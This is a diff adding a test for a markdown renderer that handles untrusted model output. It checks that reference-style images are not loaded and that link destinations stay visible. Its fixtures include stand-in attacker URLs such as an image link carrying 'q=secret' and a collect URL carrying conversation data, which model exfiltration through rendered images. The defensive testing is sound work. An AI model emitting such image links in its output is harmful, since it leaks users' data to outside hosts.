@@ -25,6 +25,15 @@ describe('markdown rendering of untrusted model output', () => {
     expect(html).toContain('https://evil.example/collect?data=the-conversation');
   });
 
+  it('resolves reference-style images and links across blocks, still without loading anything', () => {
+    const html = render('![pic][p] and [docs][d]\n\nMore text.\n\n[p]: https://evil.example/ref.png?q=secret\n[d]: https://example.org/docs');
+    expect(html).not.toMatch(/<img/i);
+    expect(html).toContain('Image not loaded: pic');
+    expect(html).toContain('https://evil.example/ref.png?q=secret');
+    expect(html).toContain('href="https://example.org/docs"');
+    expect(html).not.toContain('[p]:');
+  });
+
   it('shows every link’s full destination and opens it without opener or referrer', () => {
     const html = render('[your bank](https://evil.example/login)');
     expect(html).toContain('href="https://evil.example/login"');
